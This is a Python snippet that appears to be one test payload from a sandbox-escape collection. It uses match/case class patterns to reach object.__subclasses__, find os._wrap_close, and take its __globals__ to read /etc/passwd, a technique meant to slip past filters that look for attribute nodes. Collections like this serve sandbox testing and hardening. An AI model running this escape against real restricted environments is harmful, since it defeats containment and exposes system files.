# family: dunder
# kind: value
# tries: class patterns of match read attributes without an attribute node in the syntax tree
# success looks like: contents of /etc/passwd (root:x:0)
def job(plugin):
  match ():
    case object(__class__=kind):
      pass
  match kind:
    case object(__base__=base):
      pass
  match base:
    case object(__subclasses__=children):
      pass
  for child in children():
    if child.__name__ == '_wrap_close':
      match child:
        case object(__init__=begin):
          pass
      match begin:
        case object(__globals__=names):
          return names['read'](names['open']('/etc/passwd', 0), 200)
